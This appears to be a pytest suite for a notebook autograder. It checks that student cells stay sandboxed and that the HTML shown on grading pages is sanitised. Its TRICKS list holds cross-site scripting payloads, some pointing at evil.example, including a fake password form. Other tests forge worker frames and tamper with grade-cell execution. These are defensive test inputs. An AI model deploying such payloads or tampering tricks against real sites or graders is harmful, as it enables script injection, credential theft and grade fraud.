"""What a notebook's cells show: as a kernel leaves it, whatever the cells do, and nothing that could do harm.

About 36 s of CPU time.
"""

from __future__ import annotations

import ast
import base64
import io
import json
import re
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pytest

pytest.importorskip("IPython")

from graders.course import BadCourse, Course, Limits, read_course
from graders.feedback import SHOWN
from graders.nbgrader_plugin.own import judged
from graders.notebooks import NotebookRunner, Ran, demonstrations, why_not
from graders.release.notebook import without_hidden
from graders.report.outputs import Shown

pytestmark = pytest.mark.skipif(bool(why_not()), reason="there is no shell on this system")

ASSIGNMENTS = Path(__file__).resolve().parent.parent / "assignments"

# What a kernel and the shell must show alike.
ALIKE = {
    "text": "print('one')\nprint('two', end='')",
    "errors apart": "import sys\nprint('a')\nprint('b', file=sys.stderr)\nprint('c')",
    "flushed": "print('a', flush=True)\nprint('b', file=sys.stderr, flush=True)\nprint('c')",
    "a result": "import numpy as np\nnp.arange(6).reshape(2, 3)",
    "several": "1\n2\n'three'",
    "none": "None",
    "quiet": "5;",
    "assigned": "x = _ ; y = 3",
    "out": "Out[4], In[1], _i",
    "an object": "class A:\n    pass\nA()",
    "html": "class Table:\n    def _repr_html_(self):\n        return '<b>bold</b>'\nTable()",
    "displayed": "from IPython.display import display\nprint('before')\ndisplay(1, 'two', Table())\nprint('after')\n3",
    "displayed without import": "display({'a': [1, 2]})",
    "cleared": "from IPython.display import clear_output\nprint('gone')\ndisplay(1)\nclear_output()\nprint('stays')",
    "cleared later": "for i in range(3):\n    clear_output(wait=True)\n    display(i)\n    print('step', i)",
    "cleared for nothing": "print('stays')\nclear_output(wait=True)",
    "named": "handle = display('first', display_id='one')\nprint('x')",
    "named again": "handle.update('second')",
    "divided": "def f(n):\n    return 1 / n\n\nprint('on the way')\nf(0)",
    "chained": "try:\n    {}['key']\nexcept KeyError as error:\n    raise ValueError('after') from error",
    "in NumPy": "np.ones((2, 3)) @ np.ones((2, 3))",
    "not Python": "def f(:\n    pass",
    "wrongly indented": "if True:\nprint(1)",
    "no name": "undefined_name",
    "asserted": "assert 1 == 2, 'not equal'",
    "exit": "import sys\nsys.exit(3)",
    "in a group": "raise ExceptionGroup('several', [ValueError(1), TypeError(2)])",
    "warned": "np.log(np.array([0.0]))",
    "warned by hand": "import warnings\nwarnings.warn('careful')",
    "captured": "%%capture kept\nprint('hidden')\n1",
    "captured text": "kept.stdout",
    "magic": "%pwd?\n%lsmagic?",
    "no such magic": "%nonsense",
    "matplotlib": "%matplotlib inline\nimport matplotlib.pyplot as plt",
    "a plot": "plt.plot([1, 2], label='line')\nplt.title('A title, $x^2$')\nplt.legend()\nplt.show()\nprint('below')",
    "left open": "figure, axes = plt.subplots()\naxes.imshow(np.eye(3))\nprint('first')",
    "a figure": "figure",
    "two": "plt.figure(figsize=(2, 1))\nplt.figure(figsize=(1, 2))\nplt.plot([1, 2]);",
    "wrong plot": "plt.plot([1, 2], [1, 2, 3])",
    "awaited": "async def later():\n    return 7\nawait later()",
    "f-string": "f'{x!r:>10}'",
    "unicode": "print('täglich 循环 \\u2713')",
    "written over": "print('10%\\r20%\\r30%')",
    "time": "_ = 5\n_",
    "help": "help(f)",
}
SAME = (
    (re.compile(r"0x[0-9a-f]{6,}"), "0xADDRESS"),
    (re.compile(r"/tmp/ipykernel_\d+/\d+\.py"), "/tmp/ipykernel/cell.py"),
    (re.compile(r"\(\d+\.py"), "(cell.py"),
    (re.compile(r"similar frames: \S+ at line \d+ \(\d+ times\)"), "similar frames"),
    (re.compile(r"(?:~|/\S*?)/(?:site-packages|python3\.\d+)/"), ".../"),
)


def alike(outputs: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Return outputs without what differs from run to run; texts of one stream that follow each other are one."""
    found: list[dict[str, Any]] = []
    for output in outputs:
        output = {key: value for key, value in output.items() if key not in ("metadata", "transient")}
        if found and output["output_type"] == "stream" and found[-1].get("name") == output["name"]:
            found[-1]["text"] += output["text"]
        else:
            found.append(output)
    for output in found:
        if output["output_type"] == "stream":
            output["text"] = re.sub(r"[^\n]*\r", "", output["text"])
        if "text/html" in output.get("data", {}):
            output["data"]["text/html"] = re.sub(r"</?div[^>]*>", "", output["data"]["text/html"])
        if "image/png" in output.get("data", {}):
            output["data"]["image/png"] = output["data"]["image/png"].replace("\n", "")
    text = json.dumps(found)
    for pattern, word in SAME:
        text = pattern.sub(word, text)
    return json.loads(text)


@pytest.fixture(scope="module")
def runner() -> Iterator[NotebookRunner]:
    with NotebookRunner(ASSIGNMENTS / "character_model", limits=Limits(statement=1, top_level=20, cpu=2)) as one:
        yield one


def shown(ran: Ran) -> str:
    """Return all text of a cell's outputs."""
    return "".join(
        one.get("text", "") + one.get("evalue", "") + "".join(one.get("data", {}).values()) for one in ran.outputs
    )


def test_a_notebook_shows_what_a_kernel_leaves(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("matplotlib")
    nbclient = pytest.importorskip("nbclient")
    from nbformat import v4

    monkeypatch.setenv("IPYTHONDIR", str(tmp_path))
    monkeypatch.setenv("JUPYTER_RUNTIME_DIR", str(tmp_path))
    monkeypatch.setenv("HOME", str(tmp_path))
    notebook = v4.new_notebook(cells=[v4.new_code_cell(text) for text in ALIKE.values()])
    client = nbclient.NotebookClient(notebook, kernel_name="python3", allow_errors=True, timeout=60)
    client.execute(cwd=str(tmp_path))
    with NotebookRunner() as one:
        found = one.run(list(ALIKE.values()))
    different = {}
    for name, cell, ran in zip(ALIKE, notebook.cells, found, strict=True):
        want, got = alike(cell.outputs), alike(ran.outputs)
        if (want, cell.execution_count) != (got, ran.count):
            different[name] = (want, got)
    for name, (want, got) in different.items():
        print(f"--- {name}\nkernel: {want}\nshell:  {got}")
    assert not different


def test_a_cell_that_ends_python_costs_itself_alone(runner: NotebookRunner) -> None:
    found = runner.run(
        [
            "x = 1\nprint('once')",
            "import os\nprint('before', flush=True)\nos._exit(3)",
            "x += 1\nx",
            "import ctypes\nctypes.string_at(0)",
            "x",
            "a = bytearray(8 << 30)",
            "x",
        ]
    )
    assert [one.status for one in found] == ["ok", "killed", "ok", "killed", "ok", "error", "ok"]
    assert [shown(one) for one in (found[0], found[2], found[4], found[6])] == ["once\n", "2", "2", "2"]
    assert "Python ended by itself" in found[1].sentence and "SIGSEGV" in found[3].sentence
    assert [one.count for one in found] == [1, 2, 3, 4, 5, 6, 7]
    assert "MemoryError" in str(found[5].outputs)


def test_many_deaths_end_the_notebook_but_not_its_grade_cells(runner: NotebookRunner) -> None:
    found = runner.run(["import os\nos._exit(0)"] * 5 + ["1 + 1", "assert 1 + 1 == 2"], grade={6})
    assert [one.status for one in found] == ["killed"] * 3 + ["skipped"] * 3 + ["ok"]
    assert "so many cells before it ended Python" in found[5].sentence and found[5].count is None


def test_a_cell_without_end_is_interrupted_and_others_go_on(runner: NotebookRunner) -> None:
    stubborn = "while True:\n    try:\n        while True:\n            x += 1\n    except BaseException:\n        pass"
    found = runner.run(["x = 1", "while True:\n    x += 1\n    print('on the way')", "x > 1", stubborn, "x"])
    assert [one.status for one in found] == ["ok", "timeout", "ok", "timeout", "ok"]
    assert "more than 1 s of CPU time" in found[1].sentence and "more than 1 s of CPU time" in found[3].sentence
    assert "on the way" in shown(found[1]) and "KeyboardInterrupt" in [one.get("ename") for one in found[1].outputs]
    assert found[1].line in (1, 2, 3)
    assert shown(found[2]) == "True" and shown(found[4]) == "1"  # in a new worker, in which no endless cell has run


def test_a_notebook_has_its_time_and_grade_cells_have_theirs(runner: NotebookRunner) -> None:
    with NotebookRunner(limits=Limits(statement=1, top_level=1.5, cpu=1)) as one:
        found = one.run(["while True: pass"] * 3 + ["1"] + ["assert True"], grade={4})
    assert [one.status for one in found] == ["timeout", "timeout", "skipped", "skipped", "ok"]
    assert "time was used up" in found[3].sentence


def test_what_a_cell_shows_is_bounded() -> None:
    cells = [
        "for i in range(20_000): print('a long line', i)",
        "for i in range(1000): display(i)",
        "from IPython.display import Image\nimport os\nImage(b'\\x89PNG\\r\\n\\x1a\\n' + os.urandom(5 << 20))",
        "'x' * 10_000_000",
        "class A:\n    def _repr_html_(self): return '<p>' * 1_000_000\nA()",
        "def f(n): return f(n + 1)\nf(0)",
    ]
    with NotebookRunner() as runner:
        found = runner.run(cells)
    assert [one.status for one in found] == ["ok", "ok", "ok", "ok", "ok", "error"]
    assert all(len(json.dumps(one.outputs)) < 200_000 for one in found)
    assert "a long line 100" in shown(found[0]) and re.search(r"and [\d,]+ more characters, left out", shown(found[0]))
    assert len(found[1].outputs) < 110 and "900 more outputs" in shown(found[1])
    assert "left out: image/png" in shown(found[2]) and "left out: text/html" in shown(found[4])
    assert found[5].outputs[0]["ename"] == "RecursionError"


FORGED = """
import gc, os, struct
[fd] = [one.fd for one in gc.get_objects() if type(one).__name__ == "Channel"]
for _ in range({count}):
    os.write(fd, {data})
"""


@pytest.mark.parametrize(
    "data",
    [
        "b'x' * 100_000",
        "struct.pack('<Q', 1 << 40)",
        "struct.pack('<Q', 4) + b'null'",
        "(lambda d: struct.pack('<Q', len(d) + 8) + struct.pack('<II', len(d), 0) + d)"
        '(b\'{"ended": "ok", "line": 0, "value": ["f"], "key": "0"}\')',
        "(lambda d: struct.pack('<Q', len(d) + 8) + struct.pack('<II', len(d), 0) + d)"
        '(b\'{"ended":"ok","line":0,"value":100,"key":"' + "0" * 32 + "\"}')",
        "(lambda d: struct.pack('<Q', len(d) + 8) + struct.pack('<II', len(d), 0) + d)"
        '(b\'{"at": 0, "events": ["l", null, 7, {"output": ["l"]}, {"output": "error", "traceback": {"a": 1}}]}\')',
    ],
)
def test_forged_frames_cost_their_cell_and_earn_nothing(runner: NotebookRunner, data: str) -> None:
    found = runner.run(["x = 5", FORGED.format(data=data, count=3) + "\nassert False", "x"], grade={1})
    assert found[1].status in ("killed", "error")
    assert shown(found[2]) == "5"


def test_forged_events_and_answers_cost_their_cell(runner: NotebookRunner, monkeypatch: pytest.MonkeyPatch) -> None:
    show = "import sys, numpy as np\nsys.stdout._recorder.show({'output': np.zeros(2)})\nprint('on')"
    answer = (
        "(lambda d: struct.pack('<Q', len(d) + 24) + struct.pack('<II', len(d), 16) + d + bytes(16))"
        '(b\'{"ended": "ok", "line": 0, "value": 1, "key": ["a", "<f8", [2]]}\')'
    )
    found = runner.run(["x = 5", show, FORGED.format(data=answer, count=1), "x"])
    assert [one.status for one in found] == ["ok", "ok", "killed", "ok"]
    assert shown(found[1]) == "on\n" and shown(found[3]) == "5"

    def fails(*details: object) -> None:
        raise ZeroDivisionError

    monkeypatch.setattr(Shown, "_take", fails)  # what was not thought of
    found = runner.run(["print(1)", "x = 1"])
    assert [one.status for one in found] == ["killed", "ok"] and "no cell shows" in found[0].sentence


def test_cells_reach_nothing_that_is_not_theirs(runner: NotebookRunner) -> None:
    assert str(runner.isolation()) == "strict"
    reach = {
        "graders": "import graders",
        "solutions": "from solutions import vanilla_rnn",
        "by path": f"open({str(ASSIGNMENTS.parent / 'graders' / 'course.py')!r})",
        "pip's packages": "import nbgrader",
        "a process": "import subprocess\nsubprocess.run(['ls'])",
        "a shell": "!ls",
        "a script": "%%bash\nls",
        "input": "input('?')",
        "a thread": "import threading\nthreading.Thread(target=print).start()",
    }
    for name, ran in zip(reach, runner.run(list(reach.values())), strict=True):
        assert ran.status == "error", name
    found = runner.run(
        [
            "import sys, os\n[name for name in sys.modules if name.startswith(('graders', 'solutions', 'nbgrader'))]",
            "os.environ",
            "[one for one in os.listdir('/') if one not in ('tmp', 'root', 'usr', 'lib', 'lib64', 'home', 'opt')]",
        ]
    )
    assert shown(found[0]) == "[]" and "MPLCONFIGDIR" not in shown(found[1]) and "HOME" not in shown(found[1])


def test_what_cells_write_is_kept_for_later_cells_and_on_no_disk(runner: NotebookRunner) -> None:
    cells = [
        "%%writefile mine.py\nanswer = 42",
        "import mine\nmine.answer",
        "open('dinosaurs.txt').read(8)",
        "print('a', file=open('notes', 'w'))\nprint('b', file=open('notes', 'a'))\nopen('notes').read()",
        "import numpy as np\nx = np.ones(2)\nnp.save('a', x)\nnp.savetxt('b', x)\nnp.load('a.npy') + np.loadtxt('b')",
        "open('nowhere')",
    ]
    found = runner.run(cells)
    assert [shown(one) for one in found[1:5]] == ["42", "'Aardonyx'", r"'a\nb\n'", "array([2., 2.])"]
    assert found[5].outputs[0]["ename"] == "FileNotFoundError"
    again = runner.run(["import os\nos.path.exists('notes')", "open('notes')"])
    assert shown(again[0]) == "False" and again[1].status == "error"  # nor for another notebook


def test_a_run_that_is_repeated_shows_the_same(runner: NotebookRunner) -> None:
    cells = [
        "import numpy as np\nnp.random.rand(3)",
        "hash('text')",
        "import matplotlib.pyplot as plt\nplt.plot([1, 2])",
    ]
    once, twice = (re.sub("0x[0-9a-f]+", "0x", str(runner.run(cells))) for _ in range(2))
    assert once == twice


# Cleaning

TRICKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>here</a>",
    "<a href='https://evil.example'>here</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:white'>over all</div>",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x>",
    "<p onclick=alert(1) id=body name=cookie class=navbar>text</p>",
    "<table background='https://evil.example/x.png'><tr><td onmouseover=alert(1) colspan=2>cell</td></tr></table>",
    "</div></div></div></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<p>$\\href{javascript:alert(1)}{click}$ and \\(\\href{javascript:alert(1)}{click}\\)</p>",
    "<p>$$\\require{html}\\style{position:fixed}{x}$$</p><p>\\begin{equation}x\\end{equation}</p>",
    "<details open ontoggle=alert(1)>x</details><video><source onerror=alert(1)></video>",
    "<b\x00 onclick=alert(1)>x</b><\x00script>alert(1)</script>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<script type='text/x-mathjax-config'>MathJax.Hub.Config({})</script>",
    "<p>\u202egnp.exe</p>",
]
SHOWN_TAGS = set(
    "table caption colgroup col thead tbody tfoot tr th td p div span br hr b i em strong u s sub sup small code pre "
    "kbd samp var ul ol li dl dt dd h1 h2 h3 h4 h5 h6 blockquote img".split()
)


class Tags(HTMLParser):
    """All tags of a page, with their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attributes)))

    def handle_data(self, data: str) -> None:
        self.text += data


def is_harmless(tag: str, attributes: dict[str, str | None]) -> bool:
    for name, value in attributes.items():
        if (
            name == "src"
            and tag == "img"
            and (value or "").startswith(("data:image/png;base64,", "data:image/jpeg;base64,"))
        ):
            continue
        if (
            name in ("colspan", "rowspan", "span", "start", "border", "class", "alt")
            or tag == "span"
            and name == "class"
        ):
            continue
        return False
    return tag in SHOWN_TAGS


def page_of(cells: list[list[dict[str, Any]]]) -> str:
    """Return what nbconvert makes of cells' outputs, which nbgrader's pages show."""
    from nbconvert.exporters import HTMLExporter
    from nbformat import from_dict, v4, validate

    made = [v4.new_code_cell("1", outputs=[from_dict(one) for one in outputs]) for outputs in cells]
    notebook = v4.new_notebook(cells=made)
    validate(notebook)
    page: str = HTMLExporter(template_name="basic").from_notebook_node(notebook)[0]
    return page


def taken(*events: dict[str, Any]) -> list[dict[str, Any]]:
    """Return the outputs that are made of what a worker sends."""
    shown = Shown()
    shown.take(0, events)
    return shown.outputs([1])[0]


def display(**data: Any) -> dict[str, Any]:
    kinds = {
        "plain": "text/plain",
        "html": "text/html",
        "png": "image/png",
        "jpeg": "image/jpeg",
        "latex": "text/latex",
        "markdown": "text/markdown",
        "svg": "image/svg+xml",
        "script": "application/javascript",
    }
    return {
        "output": "display_data",
        "id": "",
        "dropped": [],
        "data": {kinds[kind]: value for kind, value in data.items()},
    }


def tricked(trick: str) -> list[dict[str, Any]]:
    """Return the outputs of a cell that tries a trick by every way there is."""
    return taken(
        display(html=trick, plain="x"),
        display(plain=trick),
        display(latex=trick),
        display(markdown=trick),
        display(svg=trick, plain=trick),
        display(script=trick),
        {"output": "stream", "name": "stdout", "text": trick},
        {"output": "error", "ename": trick, "evalue": trick, "traceback": [trick, f"\x1b[31m{trick}\x1b[0m"]},
    )


@pytest.mark.parametrize("trick", TRICKS)
def test_nothing_that_a_student_shows_does_harm(trick: str) -> None:
    outputs = tricked(trick)
    text = json.dumps(outputs, ensure_ascii=False)
    assert "\u202e" not in text and "\0" not in text
    html = "".join(one.get("data", {}).get("text/html", "") for one in outputs)
    for tag, attributes in Tags(html).found:
        assert is_harmless(tag, attributes), (tag, attributes)
    assert "$" not in html.replace("<span>$</span>", "")
    assert not re.search(r"\\[(\[a-z]", html)


def test_nothing_that_students_show_runs_in_a_page() -> None:
    page = page_of([tricked(trick) for trick in TRICKS])
    assert page.count("evil.example") > 20  # as text
    for tag, attributes in Tags(page).found:
        assert tag not in (
            "script",
            "iframe",
            "svg",
            "style",
            "link",
            "form",
            "input",
            "object",
            "embed",
            "meta",
            "base",
        )
        assert not any(name.startswith("on") or name == "href" for name in attributes), (tag, attributes)
        assert "evil" not in str(attributes) and "alert" not in str(attributes)


def test_tables_and_formatting_stay() -> None:
    table = (
        "<style scoped>.dataframe {}</style><table border='1' class='dataframe'>"
        "<tr><th>a</th><td colspan='2'><b>1</b></td></tr></table>"
    )
    [output] = taken(display(html=table, plain="a table"))
    assert '<table border="1" class="dataframe">' in output["data"]["text/html"]
    assert "<b>1</b>" in output["data"]["text/html"] and "dataframe {}" not in output["data"]["text/html"]
    assert output["data"]["text/plain"] == "a table"


def test_what_is_left_out_is_named() -> None:
    event = display(plain="<IPython.core.display.Javascript object>")
    [output] = taken({**event, "dropped": ["application/javascript", "<b>\x1b[2J"]})
    assert "(left out: application/javascript, another kind)" in output["data"]["text/plain"]
    [output] = taken(display(latex="$x^2$", plain="<IPython.core.display.Math object>"))
    assert output["data"] == {"text/plain": "$x^2$"}


def png_of(width: int, height: int) -> bytes:
    return b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + width.to_bytes(4, "big") + height.to_bytes(4, "big") + b" rest"


def jpeg_of(width: int, height: int) -> bytes:
    size = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return b"\xff\xd8\xff\xe0\0\x04ab\xff\xc0\0\x0b\x08" + size + b" rest"


def test_pictures_are_pictures() -> None:
    png = png_of(640, 480)
    for value in (png, base64.b64encode(png)):
        [output] = taken(display(png=np.frombuffer(value, np.uint8), plain="x"))
        assert base64.b64decode(output["data"]["image/png"]) == png
    for value in (
        b"<script>",
        b"GIF89a",
        b"",
        png[:4],
        b'"><script>alert(1)</script>',
        np.zeros((2, 2)),
        "text",
        None,
        7,
    ):
        array = np.frombuffer(value, np.uint8) if isinstance(value, bytes) else value
        [output] = taken(display(png=array, plain="x"))
        assert list(output["data"]) == ["text/plain"] and "left out: image/png" in output["data"]["text/plain"]
    outputs = taken(*(display(png=np.frombuffer(png + bytes(1 << 20), np.uint8)) for _ in range(40)))
    assert sum("image/png" in one["data"] for one in outputs) == 11


def test_pictures_of_too_many_pixels_are_left_out() -> None:
    for kind, made in (("png", png_of), ("jpeg", jpeg_of)):
        for size, stays in (((5000, 5000), True), ((40_000, 40_000), False), ((0, 9), False)):
            [output] = taken(display(**{kind: np.frombuffer(made(*size), np.uint8)}))
            assert (f"image/{kind}" in output["data"]) is stays, (kind, size)
    outputs = taken(*[display(png=np.frombuffer(png_of(5000, 5000), np.uint8))] * 40)
    assert sum("image/png" in one["data"] for one in outputs) == 10
    matplotlib = pytest.importorskip("matplotlib.figure")
    for kind in ("png", "jpeg"):
        file = io.BytesIO()
        matplotlib.Figure().savefig(file, format=kind)
        [output] = taken(display(**{kind: np.frombuffer(file.getvalue(), np.uint8)}))
        assert f"image/{kind}" in output["data"]


def test_updates_cost_what_they_show_and_no_more() -> None:
    shown, named = Shown(), {**display(plain="first"), "id": "one"}
    for place in range(8):
        shown.take(place, [named] * 100)
    update = {"output": "update", "id": "one", "data": {}, "dropped": [chr(0xE0001) * 100] * 20}
    last = {"output": "update", "id": "one", "data": {"text/plain": "last"}, "dropped": []}
    picture = display(png=np.frombuffer(png_of(9, 9) + bytes(2_000_000), np.uint8), plain="x" * 20_000)["data"]
    before = time.process_time()
    shown.take(8, [update] * 100 + [last])
    assert shown.outputs([1] * 8)[0][0]["data"] == {"text/plain": "last"}
    for _ in range(1000):
        shown.take(8, [{"output": "update", "id": "one", "data": picture, "dropped": []}])
    assert time.process_time() - before < 1
    assert len(json.dumps(shown.outputs([1] * 8))) < 20_000_000


def test_an_update_changes_what_was_shown_before_it() -> None:
    def event(kind: str, text: str) -> dict[str, Any]:
        return {**display(plain=text), "output": kind, "id": "one"}

    outputs = taken(*(event(*one) for one in zip(["display_data", "update"] * 2, "abcd", strict=True)))
    assert [one["data"]["text/plain"] for one in outputs] == ["d", "d"]
    outputs = taken(event("display_data", "a"), event("update", "b"), event("update", "c"), event("display_data", "d"))
    assert [one["data"]["text/plain"] for one in outputs] == ["c", "d"]


def test_all_of_a_notebook_is_bounded() -> None:
    forged = {**display(plain="\U000e0001" * 20_000), "dropped": [f"application/{'x' * 90}{k}" for k in range(20)]}
    named = {**display(), "dropped": [f"application/{'x' * 40}{k}" for k in range(20)]}
    for event in (forged, named, display(html="<b>$</b>" * 2000), {"output": "stream", "name": "stdout", "text": "\0"}):
        shown = Shown()
        for place in range(1000):
            shown.take(place, [event] * 100)
        cells = shown.outputs([1] * 1000)
        assert len(json.dumps(cells)) < 4_000_000 and sum(map(len, cells)) <= 3000


FORMATTING = "b i em strong u s small code font big tt nobr strike".split()


@pytest.mark.parametrize(
    "html",
    [
        "<p>" + "".join(f"<{name} x={k}>" for k in range(49) for name in FORMATTING) + "<p>x" * 1500,
        "<p>" + "".join(f"<{name} x={k}>" for k in range(49) for name in FORMATTING) + "<p>x" * 15_000,
        ("<b>" + "<div>" * 9 + "</b>" + "</div>" * 9) * 40 + "<p>x" * 2000,
        "<b><!--</b>" * 100 + "<p>x" * 2000,
        "<b><p title='</b>'>x</p>" * 100 + "<p>x" * 2000,
        "<p " + " ".join(f"a{k}=1" for k in range(12_000)) + ">x",
        "<table>" + "x<b>" * 49 + "<p>x" * 1500,
        "<li><dd>" * 5000,
        "<a " * 30_000,
        "<a '" * 20_000,
        "<!--" * 20_000,
        "</style " * 12_000,
        "&" * 100_000,
        "$" * 100_000,
        "\\a" * 50_000,
        chr(0xE0001) * 100_000,
    ],
)
def test_html_takes_a_moment_and_does_not_grow(html: str) -> None:
    before = time.process_time()
    outputs = taken(*[display(html=html, plain="text")] * 100)
    assert time.process_time() - before < 6
    assert outputs[0]["data"]["text/plain"].startswith("text")
    assert all(len(one["data"].get("text/html", "")) < 210_000 for one in outputs)
    assert len(json.dumps(outputs)) < 2_000_000


def test_html_shows_what_was_meant() -> None:
    for html, said in {
        "<TD ColSpan='2'>1 < 2 &amp; <i>x</I></TD>": "1 &lt; 2 &amp; <i>x</i>",
        "<p title=\"a > b\" class='x'>one<br/>two<!-- <b>no</b> -->": "<p>one<br>two</p>",
        "<b>bold<script>alert(1)</script></b><font color=red>red</font>": "<b>bold</b>red",
        "<table border=1 data-a=b><tr><th colspan = 12>x</table>": '<table border="1"><tbody><tr><th colspan="12">x',
    }.items():
        [output] = taken(display(html=html))
        assert said in output["data"]["text/html"], output


def test_text_keeps_its_colours_and_nothing_else() -> None:
    text = "\x1b[31mred\x1b[0m \x1b]0;title\x07\x1b[2J\x1b[1;1Hx\x9b31m\x07\u2066\tz\ud800"
    [output] = taken({"output": "stream", "name": "stdout", "text": text})
    assert output["text"] == "\x1b[31mred\x1b[0m x\\x9b31m\\x07\\u2066\tz\\ud800"
    [output] = taken({"output": "stream", "name": "stdout", "text": "10%\r20%\r\n30%\r5"})
    assert output["text"] == "20%\n50%" or output["text"] == "\n50%"


def test_colours_that_break_off_are_taken_away() -> None:
    whole = ["", "0", "1;31", "38;5;28", "38;5;28;01", "0;48;2;1;2;3;4", "1;", ";;", "39;49"]
    for code in whole:
        [output] = taken({"output": "stream", "name": "stdout", "text": f"a\x1b[{code}mb"})
        assert output["text"] == f"a\x1b[{code}mb"
        page_of([[output]])
    for code in ("38", "48", "038", "1;38", "38;5;1;48", "0;0048", "38;5", "38;2;1;2", "31;" * 30):
        [output] = taken({"output": "stream", "name": "stdout", "text": f"a\x1b[{code}mb"})
        assert "\x1b" not in output["text"]
        page_of([[output]])


@pytest.mark.parametrize(
    "events",
    [
        [{"output": "stream", "name": "stdout", "text": "x" * 1_000_000}] * 100,
        [display(html="<div>" * 10_000)] * 1000,
        [display(html="<b></p>" * 5_000)] * 1000,
        [display(html="<table>" + "<tr><td>1</td></tr>" * 1500 + "</table>")] * 1000,
        [display(plain="x" * 1_000_000)] * 1000,
        [{"output": "error", "ename": "x" * 100_000, "evalue": "x" * 100_000, "traceback": ["x" * 100_000] * 1000}]
        * 100,
        [
            None,
            7,
            "text",
            [],
            {},
            {"output": 7},
            {"output": "stream"},
            {"output": "error"},
            {"output": "update", "id": []},
        ],
        [
            {"output": "display_data", "data": 7, "dropped": {"a": 1}},
            {"output": "execute_result", "data": None, "id": 4},
        ],
        [
            {"output": np.zeros(2)},
            {"output": "stream", "name": np.zeros(2), "text": np.zeros(2)},
            {"output": "error", "ename": np.zeros(2), "evalue": np.zeros(2), "traceback": [np.zeros(2)]},
            {"output": "cut", "count": np.zeros(2), "name": np.zeros(2)},
            {"output": "cut", "count": 1, "name": np.zeros(2)},
            {"output": "update", "id": np.zeros(2)},
            {"output": "clear", "wait": np.zeros(2)},
            {"output": "display_data", "id": np.zeros(2), "data": np.zeros(2), "dropped": np.zeros(2)},
            {
                "output": "display_data",
                "dropped": [np.zeros(2)],
                "data": dict.fromkeys(
                    ("text/plain", "text/html", "text/latex", "image/png", "image/jpeg"), np.zeros(2)
                ),
            },
        ],
        [
            {"output": "cut", "count": 1 << 70, "name": []},
            {"output": "clear", "wait": "yes"},
            {"output": "cut", "count": True},
        ],
    ],
)
def test_whatever_a_worker_sends_is_bounded_and_valid(events: list[Any]) -> None:
    outputs = taken(*events)
    assert len(json.dumps(outputs)) < 8_000_000 and len(outputs) <= 120
    page_of([outputs[:3]])


# An instructor's own grade cells

OWN = """\
assert add(1, 2) == 3, "add(1, 2) should be 3"
assert add(0, 0) == 0
### BEGIN HIDDEN TESTS
assert add(100, 1) == 101, "the secret number is 101"
### END HIDDEN TESTS
assert add(5, 5) == 10, f"add gave {add(5, 5)}"
"""


def graded(runner: NotebookRunner, student: str, cell: str = OWN, points: float = 4) -> tuple[float, dict[str, str]]:
    _, ran = runner.run([student, cell], grade={1})
    return judged("test_add", cell, ran, points)


@pytest.mark.parametrize(
    ("student", "score", "said", "unsaid"),
    [
        ("def add(a, b): return a + b", 4, "4 of 4 points. The cell ran to its end.", ""),
        (
            "import sys\ndef add(a, b):\n    print('careful', file=sys.stderr)\n    return a + b",
            4,
            "4 of 4 points",
            "careful",
        ),
        ("import warnings\ndef add(a, b):\n    warnings.warn('w')\n    return a + b", 4, "4 of 4 points", ""),
        ("def add(a, b): return a - b", 0, "Line 1 of the cell did not pass, assert add(1, 2) == 3", "secret"),
        ("def add(a, b): return a + b + 1 - (a == 1)", 0, "Line 2 of the cell did not pass", "secret"),
        ("def add(a, b): return min(a + b, 99)", 0, "A hidden test of this cell did not pass.", "101"),
        ("def add(a, b): return a + b if a != 5 else 0", 0, "Line 6 of the cell did not pass", "gave 0"),
        (
            "def add(a, b): raise ValueError(open.__name__, 'forged text')",
            0,
            "Line 1 of the cell did not pass",
            "forged",
        ),
        ("import os\ndef add(a, b): os._exit(0)", 0, "did not come to its end. Python ended by itself", "secret"),
        ("def add(a, b):\n    while True: pass", 0, "more than 2 s of CPU time", "secret"),
        ("", 0, "Line 1 of the cell did not pass", ""),
        ("def add(a, b): raise SystemExit(0)", 0, "did not pass", ""),
        ("def add(a, b): raise KeyboardInterrupt", 0, "did not pass", ""),
        # What a student's code may change before the cell runs
        ("import sys\ndef add(a, b): sys.displayhook(4.0)", 0, "did not pass", ""),
        ("import builtins\nbuiltins.AssertionError = ValueError\ndef add(a, b): return 0", 0, "did not pass", ""),
        (
            "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
            "get_ipython().ast_transformers.append(T())\ndef add(a, b): return 0",
            0,
            "did not pass",
            "",
        ),
        (
            "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass'])\ndef add(a, b): return 0",
            0,
            "did not",
            "",
        ),
        ("get_ipython().run_cell = None\ndef add(a, b): return 0", 0, "did not pass", ""),
    ],
)
def test_own_grade_cells_have_a_score_and_a_message(
    runner: NotebookRunner, student: str, score: float, said: str, unsaid: str
) -> None:
    got, pages = graded(runner, student)
    assert got == score
    text = {level: Tags(page).text for level, page in pages.items()}
    assert said in text["full"], text["full"]
